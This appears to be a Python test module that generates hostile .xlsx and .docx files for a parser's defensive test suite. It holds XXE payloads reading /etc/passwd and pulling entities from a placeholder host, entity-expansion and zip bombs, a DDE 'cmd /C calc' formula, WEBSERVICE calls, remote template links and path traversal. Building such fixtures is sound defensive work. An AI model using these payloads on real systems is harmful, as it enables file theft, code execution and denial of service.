"""Hostile office files: Excel and Word."""

from __future__ import annotations

import io
from collections.abc import Callable, Mapping
from html import escape
from types import MappingProxyType

from tests.hostile.cases import MARK, Case, case, deflated, made
from tests.hostile.corpus_archives import Member, office, packed, stored, zipped

NOTHING: Mapping[str, bytes] = MappingProxyType({})
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
_LAUGHS = '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12)
) + "]>"  # fmt: skip
_QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'
_EXTERNAL = (
    '<!DOCTYPE x SYSTEM "@URL@/x.dtd" [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "@URL@/p">%p;]>'
)

# ---------------------------------------------------------------- Excel

_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELATED = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def _types(*parts: tuple[str, str]) -> bytes:
    kinds = "".join(f'<Override PartName="{name}" ContentType="application/{kind}+xml"/>' for name, kind in parts)
    return (
        f'{_XML}<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>{kinds}</Types>'
    ).encode()


def _relations(*found: tuple[str, str], mode: str = "") -> bytes:
    rows = "".join(
        f'<Relationship Id="rId{n}" Type="{_OFFICE}/relationships/{kind}" Target="{target}"{mode}/>'
        for n, (kind, target) in enumerate(found, 1)
    )
    return f'{_XML}<Relationships xmlns="{_PACKAGE}/relationships">{rows}</Relationships>'.encode()


def sheet(rows: str, before: str = "") -> bytes:
    return f"{_XML}{before}<worksheet {_MAIN}><sheetData>{rows}</sheetData></worksheet>".encode()


ROWS = '<row r="1"><c r="A1" t="inlineStr"><is><t>text</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>one</t></is></c></row>'  # noqa: E501


def xlsx(rows: bytes = b"", more: Mapping[str, bytes] = NOTHING) -> bytes:
    """A workbook of one sheet; `more` are other parts, or take the place of its own."""
    parts = {
        "[Content_Types].xml": _types(
            ("/xl/workbook.xml", "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main")
        ),
        "_rels/.rels": _relations(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": (
            f'{_XML}<workbook {_MAIN} {_RELATED}><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": _relations(("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "s.xml")),
        "xl/worksheets/sheet1.xml": rows or sheet(ROWS),
    }
    return office({**parts, **more})


def _strings(text: str, count: str = "1", before: str = "") -> bytes:
    items = f"<si><t>{text}</t></si>"
    return f'{_XML}{before}<sst {_MAIN} count="{count}" uniqueCount="{count}">{items}</sst>'.encode()


_SHARED = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>text</t></is></c></row><row r="2"><c r="A2" t="s"><v>0</v></c></row>'
)


def _formulas() -> bytes:
    cells = ("cmd|'/C calc'!A0", "SUM(1+1)", 'HYPERLINK("@URL@","x")', 'WEBSERVICE("@URL@")', "DDE(1)")
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="str"><f>{escape(cell)}</f><v>={escape(cell)}</v></c></row>'
        for n, cell in enumerate(cells, 2)
    )
    return xlsx(sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>text</t></is></c></row>' + rows))


def _bombed(part: str, prefix: bytes, size: int, suffix: bytes = b"") -> Callable[[], bytes]:
    """A workbook with one part that unpacks to `size`, written by hand for speed."""

    def make() -> bytes:
        import zipfile

        plain = zipfile.ZipFile(io.BytesIO(xlsx()))
        members = [stored(name, plain.read(name)) for name in plain.namelist() if name != part]
        whole = len(prefix) + size + len(suffix)
        return zipped([*members, packed(part, deflated(size, b" ", prefix, suffix), whole)])

    return make


def _many_sheets() -> bytes:
    names = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 3_000))
    return xlsx(
        more={"xl/workbook.xml": f"{_XML}<workbook {_MAIN} {_RELATED}><sheets>{names}</sheets></workbook>".encode()}
    )


_BOOK_LAUGHS = (
    f"{_XML}{_LAUGHS}<workbook {_MAIN} {_RELATED}><sheets>"
    '<sheet name="&a12;" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_BOOK_EXTERNAL = (
    f"{_XML}{_EXTERNAL}<workbook {_MAIN} {_RELATED}><sheets>"
    '<sheet name="S&f;" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_CELL = '<row r="{0}"><c r="{1}{0}" t="inlineStr"><is><t>text</t></is></c></row>'

EXCEL: dict[str, Case] = {
    "xlsx_formulas": case("a.xlsx", made(_formulas), "kept"),
    "xlsx_bomb_sheet": case("a.xlsx", made(_bombed("xl/worksheets/sheet1.xml", b"<worksheet>", 1 << 30)), "bomb"),
    "xlsx_bomb_below_cap": case("a.xlsx", made(_bombed("xl/worksheets/sheet1.xml", sheet(ROWS)[:-30], 60 << 20)),
        "bomb",
                                "bad_xlsx", "kept"),
    "xlsx_bomb_other": case("a.xlsx", made(_bombed("xl/media/i.png", b"", 1 << 30)), "bomb"),
    "xlsx_size_lies": case("a.xlsx", made(lambda: zipped([Member(b"xl/workbook.xml", deflated(1 << 30), 9, 8)])),
        "bomb",
                           "bad_xlsx"),
    "xlsx_corner": case("a.xlsx", made(lambda: xlsx(sheet(_CELL.format(1, "A") + _CELL.format(1_048_576, "XFD")))),
                        "bomb"),
    "xlsx_corner_single_quotes": case("a.xlsx", made(lambda: xlsx(sheet((_CELL.format(1, "A") + _CELL.format(
        1_048_576, "XFD")).replace('"', "'")))), "bomb"),
    "xlsx_corner_elsewhere": case("a.xlsx", made(lambda: xlsx(
        more={"xl/worksheets/other.xml": sheet(_CELL.format(1, "A") + _CELL.format(1_048_576, "XFD")),
        "xl/_rels/workbook.xml.rels": _relations(("worksheet", "worksheets/other.xml"))})), "bomb", "bad_xlsx"),
    "xlsx_corner_spaced": case("a.xlsx", made(lambda: xlsx(sheet(
        (_CELL.format(1, "A") + _CELL.format(1_048_576, "XFD")).replace('r="', 'r = "')))), "bomb", "bad_xlsx", "kept",
        "empty", "ambiguous"),
    "xlsx_corner_in_entity": case("a.xlsx", made(lambda: xlsx(sheet(
        (_CELL.format(1, "A") + _CELL.format(1_048_576, "XFD")).replace("XFD", "&#88;FD")))), "bomb", "bad_xlsx",
        "kept",
        "empty", "ambiguous"),
    "xlsx_corner_lowercase": case("a.xlsx", made(lambda: xlsx(sheet(
        (_CELL.format(1, "A") + _CELL.format(1_048_576, "XFD")).replace("XFD", "xfd")))), "bomb", "bad_xlsx", "kept",
        "empty", "ambiguous"),
    "xlsx_rows_without_cells": case("a.xlsx", made(lambda: xlsx(sheet(
        ROWS + "".join(f'<row r="{n}"/>' for n in range(3, 200_000))))), "kept"),
    "xlsx_column_huge": case("a.xlsx", made(lambda: xlsx(sheet(_CELL.format(1, "ZZZZZZZ")))), "bad_xlsx", "bomb",
                             "empty"),
    "xlsx_row_huge": case("a.xlsx", made(lambda: xlsx(sheet(_CELL.format(99_999_999_999, "A")))), "bad_xlsx", "bomb",
                          "empty"),
    "xlsx_dimension_lies": case("a.xlsx", made(lambda: xlsx(sheet(ROWS).replace(
        b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'))), "kept", "bomb", "bad_xlsx"),
    "xlsx_laughs": case("a.xlsx", made(lambda: xlsx(more={"xl/workbook.xml": _BOOK_LAUGHS.encode()})), "kept",
        "bad_xlsx"),
    "xlsx_laughs_strings": case("a.xlsx", made(lambda: xlsx(sheet(_SHARED), more={"xl/s.xml": _strings("&a12;",
        before=_LAUGHS)})),
                                "kept", "bad_xlsx", "empty"),
    "xlsx_quadratic": case("a.xlsx", made(lambda: xlsx(sheet(_SHARED), more={"xl/s.xml": _strings("&a;" * 50_000,
                           before=_QUADRATIC)})), "kept", "bad_xlsx", "empty"),
    "xlsx_external": case("a.xlsx", made(lambda: xlsx(more={"xl/workbook.xml": _BOOK_EXTERNAL.encode()})), "kept",
        "bad_xlsx"),
    "xlsx_remote": case("a.xlsx", made(lambda: xlsx(more={
        "xl/worksheets/_rels/sheet1.xml.rels": _relations(("hyperlink", "@URL@/h"), ("image", "@URL@/i.png"),
        ("externalLinkPath", "file:///etc/passwd"), mode=' TargetMode="External"')})), "kept"),
    "xlsx_remote_sheet": case("a.xlsx", made(lambda: xlsx(more={"xl/_rels/workbook.xml.rels": _relations(
        ("worksheet", "@URL@/sheet1.xml"))})), "bad_xlsx", "empty"),
    "xlsx_parent_sheet": case("a.xlsx", made(lambda: xlsx(more={"xl/_rels/workbook.xml.rels": _relations(
        ("worksheet", "../../../../../../etc/passwd"))})), "bad_xlsx", "empty"),
    "xlsx_string_count_lies": case("a.xlsx", made(lambda: xlsx(sheet(_SHARED), more={"xl/s.xml": _strings("a",
        "4294967295")})),
                                   "kept", "bad_xlsx"),
    "xlsx_string_out_of_range": case("a.xlsx", made(lambda: xlsx(sheet(_SHARED.replace("<v>0", "<v>4294967295")))),
        "kept",
                                     "bad_xlsx", "empty"),
    "xlsx_deep": case("a.xlsx", made(lambda: xlsx(sheet("<row>" * 50_000))), "bad_xlsx", "empty", "kept"),
    "xlsx_sheets": case("a.xlsx", made(_many_sheets), "kept", "bad_xlsx"),
    "xlsx_sheet_name": case("a.xlsx", made(lambda: xlsx(more={"xl/workbook.xml": (
        f'{_XML}<workbook {_MAIN} {_RELATED}><sheets><sheet name="../\u202e&#10;=cmd" sheetId="1" r:id="rId1"/>'
        "</sheets></workbook>").encode()})), "kept"),
    "xlsx_encrypted": case("a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted"),
    "xlsx_no_book": case("a.xlsx", made(lambda: office({"a": b""})), "bad_xlsx", "empty"),
    "xlsx_unzipped_wrong": case("a.xlsx", b"PK\3\4" + b"\0" * 600, "bad_xlsx"),
    "xlsx_date_huge": case("a.xlsx", made(lambda: xlsx(sheet(
        ROWS + '<row r="3"><c r="A3" t="d"><v>999999-99-99</v></c></row><row r="4"><c r="A4"><v>1e308</v></c></row>'
        '<row r="5"><c r="A5"><v>NaN</v></c></row><row r="6"><c r="A6" t="e"><v>#REF!</v></c></row>'))), "kept",
        "not_text", "bad_xlsx", "empty"),
}  # fmt: skip

# ---------------------------------------------------------------- Word

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_P = f"<w:p><w:r><w:t>{MARK}</w:t></w:r></w:p>"


def docx(body: str = _P, before: str = "", more: Mapping[str, bytes] = NOTHING) -> bytes:
    parts = {
        "[Content_Types].xml": _types(
            ("/word/document.xml", "vnd.openxmlformats-officedocument.wordprocessingml.document.main")
        ),
        "_rels/.rels": _relations(("officeDocument", "word/document.xml")),
        "word/document.xml": f"{_XML}{before}<w:document {_W}><w:body>{body}</w:body></w:document>".encode(),
    }
    return office({**parts, **more})


def _t(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


WORD: dict[str, Case] = {
    "docx_bomb": case("a.docx", made(lambda: zipped([packed("word/document.xml", deflated(1 << 30), 1 << 30)])),
        "bomb"),
    "docx_bomb_lies": case("a.docx", made(lambda: zipped([Member(b"word/document.xml", deflated(
        1 << 30, b"a", f"<w:document {_W}><w:t>".encode()), 9, 8)])), "bomb", "bad_docx", "too_long"),
    "docx_text_60_mb": case("a.docx", made(lambda: zipped([packed("word/document.xml", deflated(
        60 << 20, b"a", f"<w:document {_W}><w:t>".encode()), 60 << 20)])), "too_long", "bad_docx"),
    "docx_laughs": case("a.docx", made(lambda: docx(_P + _t("&a12;"), _LAUGHS)), "kept", "bad_docx"),
    "docx_quadratic": case("a.docx", made(lambda: docx(_P + _t("&a;" * 50_000), _QUADRATIC)), "kept", "bad_docx"),
    "docx_external": case("a.docx", made(lambda: docx(_P + _t("&f;"), _EXTERNAL)), "kept", "bad_docx"),
    "docx_external_title": case("a.docx", made(lambda: docx(more={"docProps/core.xml": (
        f'{_XML}{_EXTERNAL}<c xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&f;</dc:title></c>').encode()})),
        "kept", "bad_docx"),
    "docx_remote": case("a.docx", made(lambda: docx(more={"word/_rels/document.xml.rels": _relations(
        ("attachedTemplate", "@URL@/t.dotm"), ("image", "@URL@/i.png"), ("oleObject", "file:///etc/passwd"),
        ("aFChunk", "@URL@/c"), mode=' TargetMode="External"')})), "kept"),
    "docx_deep": case("a.docx", made(lambda: docx("<w:tbl><w:tr><w:tc>" * 17_000 + _P)), "bad_docx"),
    "docx_deep_closed": case("a.docx", made(lambda: docx("<w:tbl><w:tr><w:tc>" * 17_000 + _P + "</w:tc></w:tr></w:tbl>"
                             * 17_000)), "bad_docx", "kept"),
    "docx_odd_end_tags": case("a.docx", made(lambda: docx("<w:tc><w:p/></w:tc><w:tr/><w:tr><w:p/></w:tr>" * 999 + _P)),
                              "kept"),
    "docx_paragraphs": case("a.docx", made(lambda: docx("<w:p/>" * 1_000_000 + _P)), "kept", "bomb"),
    "docx_attributes": case("a.docx", made(lambda: docx("<w:p " + " ".join(f"a{n}=''" for n in range(100_000)) + "/>"
                            + _P)), "kept", "bad_docx"),
    "docx_empty": case("a.docx", made(lambda: docx("")), "empty"),
    "docx_no_document": case("a.docx", made(lambda: office({"a": b""})), "bad_docx"),
    "docx_encrypted": case("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted"),
    "docx_utf_7": case("a.docx", made(lambda: docx(_P,
        more={"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/>'})),
                       "empty"),
    "docx_parent": case("a.docx", made(lambda: office({f"../../{MARK}.txt": b"x", "word/document.xml":
        f"<w:document {_W}>{_P}</w:document>".encode()})), "kept"),
}  # fmt: skip

OFFICE = {**EXCEL, **WORD}
